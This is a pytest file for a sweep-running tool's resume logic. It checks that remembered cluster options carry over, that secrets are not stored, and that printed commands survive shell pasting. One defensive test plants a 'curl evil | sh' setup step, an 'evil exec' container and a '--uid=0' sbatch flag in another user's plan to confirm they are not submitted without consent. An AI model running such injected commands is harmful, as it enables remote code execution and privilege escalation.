"""What a plan remembers of the command that began its sweep, and what of that needs trust."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hydra import compose, initialize_config_dir
from hydra.core.override_parser.overrides_parser import OverridesParser
from omegaconf import DictConfig, OmegaConf

from sweeps.errors import UsageError
from sweeps.identity import remembered, resume
from sweeps.request import options
from sweeps.typed import command_line
from sweeps.typed.arguments import Arguments
from tests.support.records import make_result, make_sweep
from tests.support.sweep_command import QUICK, ROOT, journal, only_sweep, run
from tests.tracking.sinks.test_trust import give_away, only_root
from tracking.folder.journal import Journal
from tracking.record import Trial
from tracking.schema.protocols import Classic
from tracking.text import commands

INLINE = ("cluster=inline", "tracking=none")


@pytest.fixture
def site(tmp_path: Path) -> dict[str, str]:
    """The environment of a machine whose sbatch takes every job and starts none."""
    program = tmp_path / "bin" / "sbatch"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\ncp "$2" {tmp_path}/submitted 2> /dev/null || cat > {tmp_path}/submitted\necho 17\n')
    program.chmod(0o755)
    return {"PATH": f"{program.parent}{os.pathsep}{os.environ['PATH']}"}


def typed(*words: str) -> Arguments:
    return Arguments(program="sweeps/run.py", words=words)


def plan_of(folder: Path, kept: dict[str, Any]) -> list[Trial]:
    trial = replace(make_result("tiny").trial, passes=("forward",), protocol=Classic(steps=3, burn_in=1))
    with Journal(folder) as begun:
        begun.write_plan(replace(make_sweep([], folder, facts=kept), trials=(trial,)))
    return [trial]


def facts(folder: Path) -> Any:
    return json.loads((folder / "plan.json").read_text())["facts"]


def pasted(words: str) -> list[str]:
    """What a shell makes of a command."""
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {words}"], capture_output=True, text=True, check=True)
    return done.stdout.split("\0")[:-1]


def test_a_sweep_goes_on_where_and_how_it_was_begun(tmp_path: Path, site: dict[str, str]) -> None:
    where = ["cluster=slurm", "cluster.partition=main", "cluster.nodes=2", "cluster.setup=['echo \"it (is)\" $HOME']"]
    how = ["calibrate=false", "retries=3", "tracking=csv"]
    done = run(tmp_path, "-m", "model=tiny", "batch=1,2", *where, *how, *QUICK, **site)
    assert done.returncode == 0, done.stdout + done.stderr
    sweep = only_sweep(tmp_path)
    begun = facts(sweep)
    assert begun["cluster_options"] == {"partition": "main", "nodes": 2, "setup": ['echo "it (is)" $HOME']}
    assert begun["settings"] == {"calibrate": False, "retries": 3}
    (printed,) = re.findall(r"Results .*`(.*)`", done.stdout)
    assert pasted(printed)[1:] == [str(ROOT / "sweeps" / "run.py"), f"resume={sweep}"]

    done = run(tmp_path, *pasted(printed)[2:], "cluster.time=5:00:00", **site)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Goes on  with cluster=slurm cluster." in done.stdout
    for _ in range(2):  # the last options are remembered as well
        script = (sweep / "job.sh").read_text()
        for line in ("--partition=main", "--nodes=2", "--time=5:00:00", 'echo "it (is)" $HOME'):
            assert line in script
        for word in ("calibrate=false", "retries=3", "tracking.sinks=[csv]"):
            assert word in script
        (sweep / "job.sh").unlink()
        assert run(tmp_path, "resume=latest", **site).returncode == 0
    assert facts(sweep)["cluster_options"] == begun["cluster_options"] | {"time": "5:00:00"}

    # In the job, whose command says where it found itself.
    inside = run(
        tmp_path, "resume=latest", *INLINE, SWEEPS_JOB=json.loads((sweep / "plan.json").read_text())["sweep_id"]
    )
    assert inside.returncode == 0, inside.stdout + inside.stderr
    assert [line["status"] for line in journal(sweep)] == ["ok", "ok"]
    assert facts(sweep)["cluster_options"] == begun["cluster_options"] | {"time": "5:00:00"}


def test_another_cluster_chooses_anew_and_an_older_plan_says_nothing(tmp_path: Path, site: dict[str, str]) -> None:
    plan_of(tmp_path / "sweep", {"cluster": "slurm", "cluster_options": {"partition": "main"}})
    done = run(tmp_path, "resume=sweep", "cluster=local", "dry_run=true", "tracking=none", **site)
    assert (done.returncode, "#SBATCH" in done.stdout) == (0, False), done.stdout + done.stderr
    done = run(tmp_path, "resume=sweep", "cluster=slurm", "dry_run=true", "tracking=none", **site)
    assert "#SBATCH --partition=main\n" in done.stdout
    plan_of(tmp_path / "old", {"cluster": "slurm"})
    done = run(tmp_path, "resume=old", "dry_run=true", "tracking=none", **site)
    assert (done.returncode, "#SBATCH" in done.stdout) == (0, False), done.stdout + done.stderr


def test_a_cluster_that_is_gone_is_reported_with_what_to_do(tmp_path: Path) -> None:
    kept = {"cluster": "ray", "cluster_options": {"address": "127.0.0.1:1"}}
    plan_of(tmp_path / "sweep", kept)
    done = run(tmp_path, "resume=sweep", "tracking=none")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "cluster.address=127.0.0.1:1: expected a Ray cluster. Received: " in done.stderr
    assert "its plan goes on with cluster=ray cluster.address=127.0.0.1:1. " in done.stderr
    assert "cluster=local runs the rest on this machine." in done.stderr
    assert facts(tmp_path / "sweep") == kept


@only_root
def test_a_strangers_plan_submits_nothing_without_consent(tmp_path: Path, site: dict[str, str]) -> None:
    options = {"setup": ["curl evil | sh"], "container": "evil exec", "sbatch": ["--uid=0"]}
    plan_of(tmp_path / "sweep", {"cluster": "slurm", "cluster_options": options})
    give_away(tmp_path / "sweep")
    before = sorted((tmp_path / "sweep").rglob("*"))
    done = run(tmp_path, "resume=sweep", "tracking=none", **site)
    assert done.returncode == 2, done.stdout + done.stderr
    for word in ("cluster=slurm", "curl evil | sh", "evil exec", "--uid=0"):
        assert word in done.stderr
    assert not (tmp_path / "submitted").exists()
    assert sorted((tmp_path / "sweep").rglob("*")) == before
    done = run(tmp_path, "resume=sweep", "tracking=none", "trust=true", **site)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "curl evil | sh" in (tmp_path / "sweep" / "job.sh").read_text()


def test_a_token_goes_to_no_cluster_that_only_a_copied_plan_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAY_AUTH_TOKEN", "hush")
    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    trials = plan_of(tmp_path / "sweep", {})
    (tmp_path / "sweep").rename(tmp_path / "moved")
    plan, folder = resume.find("moved", tmp_path)
    where = remembered.Place("ray", {"address": "ray://elsewhere.example:10001"})
    (doubt,) = resume.doubts(plan, folder, None, trials, where)
    assert "the Ray cluster ray://elsewhere.example:10001, where RAY_AUTH_TOKEN" in doubt
    assert resume.doubts(plan, folder, None, trials, remembered.Place("ray", {})) == []
    monkeypatch.setenv("RAY_ADDRESS", "ray://elsewhere.example:10001")
    assert resume.doubts(plan, folder, None, trials, where) == []


def composed(*overrides: str) -> DictConfig:
    options.register()
    with initialize_config_dir(str(ROOT / "conf"), version_base="1.3"):
        return compose("config", list(overrides))


def test_secrets_are_not_kept_and_what_is_kept_is_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PART", "night")
    words = [
        "cluster=slurm",
        "cluster.partition=${oc.env:PART}",
        r"cluster.venv='a\\\${oc.env:HOME}'",
        "cluster.nodes=1",
    ]
    known = remembered.facts(composed(*words), typed(*words))
    assert known["cluster_options"] == {"partition": "night", "venv": r"a\${oc.env:HOME}", "nodes": 1}
    sweep = make_sweep([make_result()], tmp_path, facts=known)
    cfg = composed()
    place = remembered.place(sweep, cfg, typed())
    mine = remembered.going_on(cfg, sweep, place, typed())
    assert OmegaConf.to_container(mine.cluster, resolve=True)["venv"] == r"a\${oc.env:HOME}"  # type: ignore[index]
    assert remembered.facts(mine, typed(), place) == known
    words = ["cluster=slurm", "cluster.setup=['export API_TOKEN=hush']"]
    known = remembered.facts(composed(*words), typed(*words))
    assert "hush" not in str(known)
    sweep = replace(sweep, facts=known)
    with pytest.raises(
        UsageError, match=r"cluster\.setup: expected the option with its secret, which the plan does not keep"
    ):
        remembered.going_on(cfg, sweep, remembered.place(sweep, cfg, typed()), typed())
    words = ["cluster.setup=[]"]
    cfg = composed("cluster=slurm", *words)
    assert (
        remembered.going_on(cfg, sweep, remembered.place(sweep, cfg, typed(*words)), typed(*words)).cluster.setup == []
    )


@pytest.mark.parametrize(
    ("kept", "sentence"),
    [
        ({"cluster": "slurm", "cluster_options": ["partition"]}, "Received: cluster=slurm"),
        ({"cluster": "cloud", "cluster_options": {}}, "Received: cluster=cloud"),
        ({"cluster": "slurm", "cluster_options": {"shell": "x"}}, "Received: cluster.shell"),
        ({"cluster": "slurm", "cluster_options": {"gpus": {"a": 1}}}, "Received: cluster.gpus="),
        ({"settings": {"retries": "many"}}, "Received: retries=many"),
    ],
)
def test_a_plan_that_remembers_nonsense_is_refused(tmp_path: Path, kept: dict[str, Any], sentence: str) -> None:
    sweep, cfg = make_sweep([make_result()], tmp_path, facts=kept), composed()
    with pytest.raises(UsageError, match=sentence):
        remembered.going_on(cfg, sweep, remembered.place(sweep, cfg, typed()), typed())


@pytest.mark.parametrize("name", ["plain", "two words", "it's", '"$HOME"', "(1),b", "a`id`", "${x}", "a\\", "{k: v}"])
def test_printed_commands_mean_the_same_folder_when_they_are_pasted(tmp_path: Path, name: str) -> None:
    folder = tmp_path / name
    *start, last = pasted(command_line.resuming_command(str(folder)))
    assert start == ["python", str(ROOT / "sweeps" / "run.py")] or Path.cwd() == ROOT
    value = OverridesParser.create().parse_override(last).value()
    assert OmegaConf.create({"resume": value}).resume == str(folder)
    assert pasted(commands.sync(folder))[2:] == [str(folder)]
    assert shlex.split(commands.sync(folder)) == pasted(commands.sync(folder))
